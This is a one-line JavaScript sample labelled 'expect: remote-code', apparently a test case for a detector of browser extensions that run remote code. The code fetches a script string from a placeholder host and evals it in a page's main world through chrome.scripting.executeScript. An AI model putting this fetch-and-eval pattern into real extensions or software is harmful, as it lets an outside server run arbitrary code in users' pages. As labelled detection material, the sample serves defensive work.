// expect: remote-code
const r = await fetch("https://x.example"); const { js } = await r.json(); chrome.scripting.executeScript({ target: { tabId: 1 }, func: (c) => { eval(c); }, args: [js], world: "MAIN" });
